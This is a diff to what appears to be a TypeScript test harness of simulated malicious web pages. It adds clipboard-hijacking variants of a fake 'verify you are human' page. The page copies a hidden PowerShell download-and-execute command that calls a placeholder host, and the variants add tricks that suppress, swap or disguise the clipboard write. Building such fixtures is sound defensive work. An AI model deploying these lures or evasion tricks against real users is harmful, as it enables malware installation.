@@ -61,23 +61,44 @@ export const plainTrap: SitePart = ({ url }) => {
 /** The command that the page below puts on the clipboard. */
 export const pastedCommand = 'powershell -w hidden -c "iex (iwr https://cdn.brass-verify.example/a.ps1)"'
 
+/** How the page below puts a text on the clipboard, by what stands behind `/verify` in its path. */
+const copies: Readonly<Record<string, string>> = {
+  '': `select(command)
+  document.execCommand('copy')
+  navigator.clipboard?.writeText(command).catch(() => {})`,
+  '/unheard': `select(command).addEventListener('copy', (event) => event.stopPropagation())
+  document.execCommand('copy')`,
+  '/swapped': `select('A harmless text').addEventListener('copy', (event) => {
+    event.stopPropagation()
+    event.preventDefault()
+    event.clipboardData.setData('text', command)
+  })
+  document.execCommand('copy')`,
+  '/forged': `const item = new ClipboardItem({ 'text/plain': new Blob([command], { type: 'text/plain' }) })
+  for (const name of ['types', 'getType']) Object.defineProperty(ClipboardItem.prototype, name, { value: () => [] })
+  navigator.clipboard.write([item])`,
+}
+
 /** A page that lets people "prove that they are human" by a command that it puts on their clipboard. */
 export const copyPasteAttack: SitePart = ({ url }) => {
-  if (url.pathname !== '/verify') return undefined
+  const [, way = null] = /^\/verify(.*)$/.exec(url.pathname) ?? []
+  if (way === null || !(way in copies)) return undefined
   return htmlPage(
     'Verify you are human',
     `<h1>Verify you are human</h1><button id="verify">I am not a robot</button>
 <p>Press Windows+R, then Ctrl+V, then Enter.</p>
 <script>
 const command = ${JSON.stringify(pastedCommand)}
-document.getElementById('verify').addEventListener('click', () => {
+function select(text) {
   const area = document.createElement('textarea')
-  area.value = command
+  area.value = text
   document.body.append(area)
   area.select()
-  document.execCommand('copy')
-  area.remove()
-  navigator.clipboard?.writeText(command).catch(() => {})
+  return area
+}
+document.getElementById('verify').addEventListener('click', () => {
+  ${copies[way]}
+  document.querySelector('textarea')?.remove()
   document.getElementById('verify').textContent = 'Done'
 })
 </script>`,
